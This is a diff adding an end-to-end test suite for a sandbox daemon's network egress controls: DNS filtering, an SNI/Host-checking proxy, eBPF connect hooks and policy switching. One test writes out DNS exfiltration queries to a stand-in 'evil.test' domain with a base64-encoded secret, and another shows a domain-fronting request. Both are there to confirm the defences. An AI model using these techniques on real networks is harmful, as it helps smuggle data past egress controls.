@@ -1,0 +1,376 @@
+"""Networked sandboxes end to end (root): a daemon with a network pool of its own, the test's
+servers in a network namespace the test makes (:mod:`tests.edged.net.servers`), DNS answers
+from edged's resolver with static records and a fake upstream on the host's loopback. No
+traffic leaves the machine."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import os
+import subprocess
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from edged.client import InvalidStateError, Sandbox
+from edged.net import bpf, libbpf
+from tests.edged.net.servers import NET4, NET6, FakeUpstream, ServerNetns
+from tests.edged.test_e2e_container import RealNode, layer_store, real_node  # noqa: F401
+
+pytestmark = [pytest.mark.root, pytest.mark.mount]
+
+PROFILE = Path(__file__).resolve().parents[3] / "profiles/network/default.toml"
+STATIC = {"ok.test": [f"{NET4}.2"], "other.test": [f"{NET4}.3"],
+          "shared.test": [f"{NET4}.2"], "v6.test": [f"{NET6}3"]}
+UPSTREAM = {"up.test": ([f"{NET4}.3"], 1), "up6.test": ([f"{NET6}2"], 300)}
+
+
+class Net:
+    """One test's network: the daemon, its server namespace and fake upstream."""
+
+    def __init__(self, node: RealNode, srv: ServerNetns, upstream: FakeUpstream, tag: str,
+                 start: Callable[..., RealNode], settings: dict[str, Any]) -> None:
+        self.node, self.srv, self.upstream, self.tag = node, srv, upstream, tag
+        self.start, self.settings = start, settings
+
+    @property
+    def socket(self) -> str:
+        return self.node.socket
+
+    def on_loop(self, fn: Callable[[], Any]) -> Any:
+        """Run ``fn`` in the daemon's event loop thread and return its result."""
+        async def call() -> Any:
+            return fn()
+        return asyncio.run_coroutine_threadsafe(call(), self.node.thread.loop).result(10)
+
+    def links(self) -> list[str]:
+        """Our host interfaces (netlink work runs in the network manager's own thread)."""
+        plumber = self.node.server.manager.net.plumber
+        return list(asyncio.run_coroutine_threadsafe(plumber.run(plumber.links),
+                                                     self.node.thread.loop).result(10))
+
+    def create(self, sid: str, network: Any, **kw: Any) -> Sandbox:
+        _, digest = self.layer
+        return Sandbox.create(layers=[digest], id=sid, env={"PATH": "/bin"},
+                              socket=self.socket, network=network, **kw)
+
+    layer: tuple[str, str] = ("", "")
+
+
+@pytest.fixture
+def net(real_node, layer_store, tmp_path) -> Iterator[Net]:  # noqa: F811
+    tag = hashlib.sha256(str(tmp_path).encode()).hexdigest()[:4]
+    srv = ServerNetns(tag, tmp_path)
+    upstream = FakeUpstream(UPSTREAM)
+    static = ", ".join(f'"{k}" = {v!r}'.replace("'", '"') for k, v in STATIC.items())
+    prof = tmp_path / "net.toml"
+    prof.write_text(PROFILE.read_text().replace("ttl_min = 5", "ttl_min = 1").replace(
+        "# static = {", f"static = {{ {static} }}\n# x = {{"))
+    third = int(tag[:2], 16)
+    settings = dict(network_pool=f"10.214.{third}.0/24", network_pool6=f"fd8e:dbe7:{tag}::/64",
+                    network_profile=str(prof), network_prefix="n" + tag,
+                    network_dns_upstreams=f"127.0.0.1:{upstream.port}")
+    node = real_node(**settings)
+    table = f"edged_n{tag}"
+    assert subprocess.run(["nft", "list", "table", "ip", table], capture_output=True,
+                          text=True).stdout.count("masquerade") == 1, "the NAT rule is in place"
+    n = Net(node, srv, upstream, tag, real_node, settings)
+    n.layer = layer_store
+    try:
+        yield n
+    finally:
+        n.node.stop()
+        gone = subprocess.run(["nft", "list", "table", "ip", table], capture_output=True)
+        srv.close()
+        upstream.close()
+        links = subprocess.run(["ip", "-br", "link"], capture_output=True, text=True).stdout
+        assert not [ln for ln in links.splitlines() if ln.startswith("n" + tag)], links
+        assert gone.returncode != 0, "the NAT table is removed with the last networked sandbox"
+
+
+def sh(sbx: Sandbox, cmd: str, timeout: float = 20) -> str:
+    r = sbx.exec(cmd, timeout=timeout)
+    return r.stdout + r.stderr
+
+
+def refused_fast(sbx: Sandbox, cmd: str, *, closed: bool = False) -> str:
+    """Run a command that must fail at once (EPERM at connect, not a timeout; ``closed``:
+    or the proxy closes the connection at once, which ``nc`` takes as a clean end)."""
+    t0 = time.monotonic()
+    out = sh(sbx, f"{cmd}; echo rc=$?")
+    assert "hi-" not in out and "echo:" not in out, out
+    assert closed or "rc=0" not in out, out
+    assert time.monotonic() - t0 < 2.5, f"a refusal must be fast: {out}"
+    return out
+
+
+def wait_for(cond: Callable[[], bool], what: str, timeout: float = 8.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not cond():
+        assert time.monotonic() < deadline, f"timed out waiting for {what}"
+        time.sleep(0.05)
+
+
+def test_names_ports_addresses_and_ipv6(net: Net) -> None:
+    rules = ["ok.test", "v6.test:8080", f"{NET4}.3:8080", f"[{NET6}2]:8080"]
+    with net.create("net-1", {"allow": rules}) as sbx:
+        assert sbx.network()["policy"] == {"allow": rules}
+        # the resolver answers whatever server is asked (8.8.8.8 here: redirected)
+        assert f"{NET4}.2" in sh(sbx, "nslookup ok.test 8.8.8.8")
+        assert f"{NET4}.3" not in sh(sbx, "nslookup other.test 8.8.8.8")
+        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
+        # names on 80/443 go through the SNI/Host proxy
+        assert f"hi-{NET4}.2:80 host=ok.test" in sh(sbx, "wget -q -O- http://ok.test/")
+        out = sh(sbx, "wget -q -O- --no-check-certificate https://ok.test/")
+        assert "sni=ok.test" in out, (out, net.srv.log)
+        # a raw address or a port no rule allows: refused at connect
+        refused_fast(sbx, f"nc -w 3 {NET4}.3 80 </dev/null")
+        refused_fast(sbx, f"nc -w 3 {NET4}.3 9000 </dev/null")
+        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nc -w 3 {NET4}.3 8080 </dev/null")
+        # IPv6: an address rule, and a name learned from an AAAA answer (through libc)
+        assert f"hi-{NET6}2:8080" in sh(sbx, f"nc -w 3 {NET6}2 8080 </dev/null")
+        refused_fast(sbx, f"nc -w 3 {NET6}2 9000 </dev/null")
+        assert f"hi-{NET6}3:8080" in sh(sbx, "nc -w 3 v6.test 8080 </dev/null")
+        refused_fast(sbx, f"nc -w 3 {NET6}3 9000 </dev/null")  # v6.test: port 8080 only
+        evs = sbx.events(kind="egress_denied")
+        assert any(e["address"] == f"{NET4}.3:80" and e["detail"]["hook"] == "connect"
+                   for e in evs), evs
+        assert any(e["address"] == f"[{NET6}2]:9000" for e in evs), evs
+        denied = sbx.events(kind="dns_denied")
+        assert any(e["path"] == "other.test" for e in denied), denied
+        assert sbx.network()["denied"] >= 4
+
+
+def test_cidr_and_udp_rules(net: Net) -> None:
+    rules = [f"{NET4}.0/30:8080", {"rule": f"{NET4}.2:5353", "protocol": "udp"}]
+    with net.create("net-cidr", {"allow": rules}) as sbx:
+        for a in (2, 3):
+            assert f"hi-{NET4}.{a}:8080" in sh(sbx, f"nc -w 3 {NET4}.{a} 8080 </dev/null")
+        refused_fast(sbx, f"nc -w 3 {NET4}.2 9000 </dev/null")
+        # UDP (busybox's tftp: unconnected sendto, the sendmsg hook)
+        sh(sbx, f"tftp -g -r x -l /dev/null {NET4}.2 5353 & sleep 1; kill $!")
+        wait_for(lambda: [d for d in net.srv.datagrams if d[0] == f"{NET4}.2"], "a datagram")
+        out = refused_fast(sbx, f"tftp -g -r x -l /dev/null {NET4}.3 5353")
+        assert "not permitted" in out, out
+        assert not [d for d in net.srv.datagrams if d[0] == f"{NET4}.3"]
+
+
+def test_phase_switch_cuts_what_the_new_policy_forbids(net: Net) -> None:
+    with net.create("net-phase", {"allow": ["ok.test", f"{NET4}.3:9000"]}) as sbx:
+        sh(sbx, "nslookup ok.test")
+        outs: dict[str, str] = {}
+        cmds = {
+            "direct": f"(echo a; sleep 4; echo bye) | nc {NET4}.2 9000; echo rc=$?",
+            "kept": f"(echo a; sleep 4; echo bye) | nc {NET4}.3 9000; echo rc=$?",
+            "proxied": ("(printf 'GET /hold HTTP/1.0\\r\\nHost: ok.test\\r\\n\\r\\n'; sleep 4; "
+                        "echo bye) | nc ok.test 80; echo rc=$?"),
+        }
+        threads = [threading.Thread(target=lambda k=k, c=c: outs.__setitem__(k, sh(sbx, c)))
+                   for k, c in cmds.items()]
+        for t in threads:
+            t.start()
+        wait_for(lambda: len(net.srv.conns(9000)) == 2 and all(
+            c.lines == ["a"] for c in net.srv.conns(9000)) and net.srv.conns(80),
+            "the three connections")
+        out = sbx.set_network({"allow": [f"{NET4}.3:9000"]})
+        assert out["generation"] == 1 and out["cut"] == 2, out
+        for t in threads:
+            t.join(20)
+        (direct,) = net.srv.conns(9000, f"{NET4}.2")
+        (kept,) = net.srv.conns(9000, f"{NET4}.3")
+        (proxied,) = net.srv.conns(80)
+        wait_for(lambda: bool(direct.end and kept.end and proxied.end),
+                 f"the connections' ends: {direct, kept, proxied, outs}")
+        assert kept.lines == ["a", "bye"] and kept.end == "done", kept
+        assert direct.lines == ["a"] and direct.end in ("reset", "eof"), direct
+        assert proxied.lines == [] and proxied.host == "ok.test", proxied
+        assert "echo:bye" in outs["kept"] and "echo:bye" not in outs["direct"], outs
+        # and nothing new to what the policy no longer allows
+        refused_fast(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
+        assert "NXDOMAIN" in sh(sbx, "nslookup ok.test; echo")
+        assert sbx.set_network("none")["generation"] == 2
+        refused_fast(sbx, f"nc -w 3 {NET4}.3 9000 </dev/null")
+
+
+def test_dns_exfiltration_is_refused(net: Net) -> None:
+    with net.create("net-dns", {"allow": ["up.test", "ok.test"]}) as sbx:
+        long = ".".join(["x" * 63] * 3)
+        for q in (f"{long}.evil.test", "c2VjcmV0.evil.test", "evil.test"):
+            out = sh(sbx, f"nslookup {q} 8.8.8.8; echo rc=$?")
+            assert "NXDOMAIN" in out and "rc=0" not in out, out
+        # a "server" at an address the policy allows is the resolver too
+        sh(sbx, f"nslookup evil.test {NET4}.2")
+        sh(sbx, "nslookup -type=TXT up.test 8.8.8.8; nslookup -type=MX ok.test 8.8.8.8")
+        assert f"{NET4}.3" in sh(sbx, "nslookup up.test 8.8.8.8")
+        assert not [n for n in net.upstream.names() if "evil" in n], net.upstream.queries
+        assert ("up.test", "A") in net.upstream.queries
+        assert not [q for q in net.upstream.queries if q[1] not in ("A", "AAAA")], \
+            net.upstream.queries
+        denied = {e["path"] for e in sbx.events(kind="dns_denied")}
+        assert {"evil.test", "c2vjcmv0.evil.test", f"{long}.evil.test"} <= denied, denied
+
+
+def test_learned_addresses_expire_with_their_ttl(net: Net) -> None:
+    with net.create("net-ttl", {"allow": ["up.test"]}) as sbx:
+        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nslookup up.test >/dev/null; "
+                                               f"nc -w 3 {NET4}.3 8080 </dev/null")
+        assert sbx.network()["learned"] >= 1
+        time.sleep(1 + 2.0 + 0.5)  # TTL 1 s (the profile's ttl_min) and the grace
+        refused_fast(sbx, f"nc -w 3 {NET4}.3 8080 </dev/null")
+        evs = sbx.events(kind="egress_denied")
+        assert any(e["detail"]["why"] == "expired" and e["detail"].get("names") == ["up.test"]
+                   for e in evs), evs
+        assert net.on_loop(net.node.server.manager.net.collect) >= 1
+        assert sbx.network()["learned"] == 0
+        # asking again makes it reachable again
+        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nslookup up.test >/dev/null; "
+                                               f"nc -w 3 {NET4}.3 8080 </dev/null")
+
+
+def test_two_sandboxes_with_different_policies(net: Net) -> None:
+    with net.create("net-a", {"allow": ["ok.test"]}) as a, \
+            net.create("net-b", {"allow": ["other.test"]}) as b:
+        assert f"{NET4}.2" in sh(a, "nslookup ok.test")
+        assert f"{NET4}.3" in sh(b, "nslookup other.test")
+        assert f"{NET4}.3" not in sh(a, "nslookup other.test; echo")
+        assert f"{NET4}.2" not in sh(b, "nslookup ok.test; echo")
+        assert f"hi-{NET4}.2:8080" in sh(a, f"nc -w 3 {NET4}.2 8080 </dev/null")
+        assert f"hi-{NET4}.3:8080" in sh(b, f"nc -w 3 {NET4}.3 8080 </dev/null")
+        refused_fast(a, f"nc -w 3 {NET4}.3 8080 </dev/null")
+        refused_fast(b, f"nc -w 3 {NET4}.2 8080 </dev/null")
+        assert a.network()["address"] != b.network()["address"]
+
+
+def test_sni_and_host_are_checked(net: Net) -> None:
+    with net.create("net-sni", {"allow": ["ok.test"]}) as sbx:
+        sbx.files.write("/etc/hosts", f"{NET4}.2 shared.test\n")
+        assert "sni=ok.test" in sh(sbx, "wget -q -O- --no-check-certificate https://ok.test/")
+        # shared.test is on ok.test's address, which the filter allows: the proxy refuses
+        for cmd in ("wget -q -O- --no-check-certificate https://shared.test/",
+                    "wget -q -O- http://shared.test/",
+                    f"wget -q -O- --no-check-certificate https://{NET4}.2/"):
+            refused_fast(sbx, cmd)
+        for cmd in ("echo hello | nc ok.test 443", "echo hello | nc ok.test 80"):
+            refused_fast(sbx, cmd, closed=True)
+        seen = {(c.sni, c.host) for c in net.srv.conns(443) + net.srv.conns(80)}
+        assert not [s for s in seen if "shared.test" in s], seen
+        whys = {(e["detail"]["why"], tuple(e["detail"].get("names", ())))
+                for e in sbx.events(kind="egress_denied") if e["detail"]["hook"] == "proxy"}
+        assert ("name_not_allowed", ("shared.test",)) in whys, whys
+        assert {w for w, _ in whys} >= {"not_tls", "not_http"}, whys
+        # what the check cannot see: the Host inside TLS (documented: domain fronting)
+        out = sh(sbx, "wget -q -O- --no-check-certificate --header 'Host: shared.test' "
+                      "https://ok.test/")
+        assert "host=shared.test sni=ok.test" in out, out
+
+
+def test_none_sandbox_has_no_network_and_cannot_get_one(net: Net) -> None:
+    before = net.links()
+    with net.create("net-none", "none") as sbx:
+        assert net.links() == before
+        assert sbx.network() == {"policy": "none"}
+        assert "eth0" not in sh(sbx, "ls /sys/class/net; ip link; echo")
+        with pytest.raises(InvalidStateError):
+            sbx.set_network({"allow": ["ok.test"]})
+
+
+def test_a_second_daemon_on_the_same_pool_is_refused(net: Net, tmp_path) -> None:
+    other = tmp_path / "other"
+    other.mkdir()
+    settings = dict(net.settings, network_prefix="m" + net.tag)
+    node2 = net.start(socket=str(other / "s.sock"), state_dir=str(other / "state"),
+                      runtime_dir=str(other), **settings)
+    feats = node2.server.manager.net.features
+    assert feats["enabled"] is False and "network pool" in feats["reason"], feats
+    node2.stop()
+    with net.create("net-still", {"allow": ["ok.test"]}) as sbx:
+        assert f"{NET4}.2" in sh(sbx, "nslookup ok.test")
+
+
+def test_restart_adopts_networked_sandboxes(net: Net) -> None:
+    net.node.stop()
+    net.node = net.start(on_shutdown="keep", **net.settings)
+    sbx = net.create("net-kept", {"allow": ["ok.test"]})
+    try:
+        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nslookup ok.test >/dev/null; "
+                                               f"nc -w 3 {NET4}.2 8080 </dev/null")
+        net.node.stop()
+        net.node = net.start(on_shutdown="stop", **net.settings)
+        sbx = Sandbox.connect("net-kept", socket=net.socket)
+        assert sbx.network()["policy"] == {"allow": ["ok.test"]}
+        # the learned address is still in the maps; the policy is still enforced
+        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
+        refused_fast(sbx, f"nc -w 3 {NET4}.3 8080 </dev/null")
+        assert sbx.set_network("none")["generation"] >= 1
+        refused_fast(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
+    finally:
+        sbx.kill()
+
+
+def _ours(n: Net) -> dict[str, int]:
+    """What the daemon holds for sandboxes: map entries, our interfaces, its fds."""
+    mgr = n.node.server.manager.net
+
+    def count() -> dict[str, int]:
+        f = mgr.filter
+        out = {name: len(f.maps[name].keys()) for name in
+               ("sandboxes", "addrs4", "addrs6", "cidr4", "cidr6", "learned4", "learned6")}
+        out["fds"] = len(os.listdir("/proc/self/fd"))
+        out["records"] = len(list(mgr.records.glob("*.json")))
+        return out
+    return dict(n.on_loop(count), links=len(n.links()))
+
+
+def _cycles(n: Net, count: int) -> None:
+    progs, maps = set(libbpf.next_ids("prog")), set(libbpf.next_ids("map"))
+    before = _ours(n)
+    for i in range(count):
+        with n.create(f"net-c{i}", {"allow": ["ok.test", f"{NET4}.3:8080"]}) as sbx:
+            if i % 50 == 0:
+                assert f"{NET4}.2" in sh(sbx, "nslookup ok.test")
+            else:
+                sbx.exec("true")
+    after = _ours(n)
+    assert {k: after[k] for k in after if k != "fds"} == {k: before[k] for k in before
+                                                          if k != "fds"}, (before, after)
+    assert after["fds"] <= before["fds"] + 4, (before, after)
+    assert after["sandboxes"] == 0 and after["learned4"] == 0, after
+    # no program or map of ours was made per sandbox (other helpers' may come and go)
+    assert not [m for m in set(libbpf.next_ids("map")) - maps if _map_name(m) in bpf.MAPS]
+    assert not [p for p in set(libbpf.next_ids("prog")) - progs
+                if _prog_name(p).startswith("egress_")]
+
+
+def _map_name(map_id: int) -> str:
+    try:
+        m = libbpf.map_by_id(map_id)
+    except libbpf.BpfError:
+        return ""  # gone meanwhile
+    m.close()
+    return m.name
+
+
+def _prog_name(prog_id: int) -> str:
+    try:
+        fd = libbpf.prog_fd_by_id(prog_id)
+    except libbpf.BpfError:
+        return ""
+    try:
+        return libbpf.prog_info(fd)[0]
+    finally:
+        os.close(fd)
+
+
+def test_create_delete_cycles_leave_nothing(net: Net) -> None:
+    _cycles(net, 20)
+    assert bpf.OBJECT.is_file()
+
+
+@pytest.mark.slow
+def test_a_thousand_create_delete_cycles_leave_nothing(net: Net) -> None:
+    _cycles(net, 1000)
